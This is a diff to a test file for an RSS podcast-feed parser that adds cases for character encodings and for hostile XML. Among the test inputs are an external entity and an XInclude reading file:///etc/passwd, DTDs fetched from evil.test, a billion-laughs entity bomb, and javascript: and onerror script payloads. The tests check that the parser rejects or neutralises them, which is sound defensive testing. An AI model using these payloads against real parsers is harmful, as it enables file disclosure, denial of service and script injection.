@@ -1,3 +1,4 @@
+import { gzipSync } from 'node:zlib'
 import { expect, test } from 'vitest'
 import { readFeed } from './read-feed.ts'
 
@@ -63,31 +64,85 @@ test('odd dates, lengths and durations are not told', () => {
   expect(parsed).toMatchObject({ episodes: [{ publishedAt: null, durationMs: null, bytes: null }] })
 })
 
-test('a feed in another encoding is read as it is', () => {
-  const text = feed(item('<title>Zürich</title>'))
-  const said = (name: string) => text.replace('UTF-8', name)
-  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(said('UTF-16'), 'utf16le')])
-  for (const bytes of [
-    Buffer.from(`\uFEFF${text}`),
-    Buffer.from(said('ISO-8859-1'), 'latin1'),
-    Buffer.from(text, 'latin1'),
-    Buffer.from(said('no-such-encoding')),
-    utf16,
-  ])
-    expect(read(bytes)).toMatchObject({ episodes: [{ title: 'Zürich' }] })
+const declares = (encoding: string) => `<?xml version="1.0" encoding="${encoding}"?>`
+const titled = (title: string, head?: string) => feed(item(`<title>${title}</title>`), head)
+
+function utf16(text: string, mark: [number, number]): Buffer {
+  const bytes = Buffer.from(text, 'utf16le')
+  return Buffer.concat([Buffer.from(mark), mark[0] === 0xfe ? bytes.swap16() : bytes])
+}
+
+test.each<[what: string, bytes: string | Buffer, title: string]>([
+  ['a mark of UTF-8', Buffer.from(`\uFEFF${titled('Zürich')}`), 'Zürich'],
+  ['UTF-16 with its mark', utf16(titled('Zürich', declares('UTF-16')), [0xff, 0xfe]), 'Zürich'],
+  ['UTF-16 the other way round', utf16(titled('Zürich'), [0xfe, 0xff]), 'Zürich'],
+  ['Latin 1, which it declares', Buffer.from(titled('Zürich', declares('ISO-8859-1')), 'latin1'), 'Zürich'],
+  ['Latin 1 that says it is UTF-8', Buffer.from(titled('Zürich'), 'latin1'), 'Zürich'],
+  [
+    'Windows-1252, which it declares',
+    Buffer.from(titled('Zürich \x97 \x93nah\x94', declares('windows-1252')), 'latin1'),
+    'Zürich — “nah”',
+  ],
+  ['UTF-8 that says it is Windows-1252', titled('Zurich', declares('windows-1252')), 'Zurich'],
+  ['an encoding that there is not', titled('Zürich', declares('klingon')), 'Zürich'],
+  ['UTF-7, which no browser reads', titled('A +ADw-b+AD4-', declares('UTF-7')), 'A +ADw-b+AD4-'],
+  ['an outside grammar', titled('Plain', '<!DOCTYPE rss SYSTEM "http://evil.test/rss.dtd">'), 'Plain'],
+  ['an entity that nobody declared', titled('A &nobody; B'), 'A &nobody; B'],
+  [
+    'a file taken in',
+    feed(item('<title>T</title><xi:include href="file:///etc/passwd" parse="text"/>')),
+    'T',
+  ],
+  ['a stylesheet', titled('T', `${declares('UTF-8')}<?xml-stylesheet href="javascript:alert(1)"?>`), 'T'],
+  ['a file twice without a guid', feed(item('<title>One</title>') + item('<title>Two</title>')), 'One'],
+  ['an episode that has no title', feed(item('<guid>a</guid>')), 'Untitled'],
+  ['a title that is markup', titled('<![CDATA[<img src=x onerror=alert(1)>Hi]]>'), 'Hi'],
+  ['a title of half a letter', titled('A&#xD800;B'), 'A\ufffdB'],
+])('a feed with %s lists its episode', (_what, bytes, title) => {
+  const parsed = read(bytes)
+  expect(parsed.kind === 'feed' && parsed.episodes.map((episode) => episode.title)).toEqual([title])
+})
+
+test('a guid is cut where it is longer than any', () => {
+  const parsed = read(feed(item(`<guid>${'g'.repeat(1_000_000)}</guid>`)))
+  expect(parsed).toMatchObject({ episodes: [{ guid: 'g'.repeat(1000) }] })
 })
 
 test('what is no feed is said to be none, at once', () => {
   const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n || ''};`.repeat(10)}">`)
   const bomb = `<!DOCTYPE r [<!ENTITY l "lol">${laughs.join('')}]>`
   const outside = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+  const long = `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(9000)}">]>`
+  const parameter = '<!DOCTYPE r [<!entity % p SYSTEM "http://evil.test/x.dtd"> %p;]>'
+  const addresses = [
+    'file:///etc/passwd',
+    'javascript:alert(1)',
+    'data:audio/mpeg,x',
+    'ftp://a.test/a.mp3',
+    '//',
+    '',
+  ]
   for (const [text, problem] of [
     ['', 'not_a_feed'],
     ['hello', 'not_a_feed'],
     ['<rss', 'not_a_feed'],
     ['<html><body>Sign in</body></html>', 'not_a_feed'],
     ['{"items":[]}', 'not_a_feed'],
+    [' \n '.repeat(1000), 'not_a_feed'],
+    ['<feed xmlns="http://www.w3.org/2005/Atom"><title>S</title><entry/></feed>', 'not_a_feed'],
+    ['<opml version="2.0"><body><outline xmlUrl="https://a.test"/></body></opml>', 'not_a_feed'],
+    ['<rss version="2.0"><channel><item><title>T', 'not_a_feed'],
+    [feed(item('<title><![CDATA[T</title>')), 'not_a_feed'],
+    [feed(`<!-- ${item('<title>T</title>')}`), 'not_a_feed'],
+    [Buffer.from([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]), 'not_a_feed'],
+    [gzipSync(titled('T')), 'not_text'],
+    [titled('A\u0000B'), 'not_text'],
     [feed(''), 'no_episodes'],
+    [feed('<item><title>A post</title></item>'), 'no_episodes'],
+    [feed(addresses.map((url) => item('<title>T</title>', url)).join('')), 'no_episodes'],
+    [titled('&a;'.repeat(9000), long), 'has_entities'],
+    [titled('x', parameter), 'has_entities'],
+    [utf16(titled('&a;', long), [0xff, 0xfe]), 'has_entities'],
     [feed(item('<title>&l9;</title>'), `<?xml version="1.0"?>${bomb}`), 'has_entities'],
     [feed(item('<title>&x;</title>'), `<?xml version="1.0"?>${outside}`), 'has_entities'],
   ] as const) {
@@ -95,7 +150,6 @@ test('what is no feed is said to be none, at once', () => {
     expect([text, read(text)]).toEqual([text, { kind: 'malformed', problem }])
     expect(secondsSince(from)).toBe(0)
   }
-  expect(read(new Uint8Array([0x3c, 0, 1, 2, 0, 255])).kind).toBe('malformed')
 })
 
 test('elements nested without end and attributes without number are survived', () => {
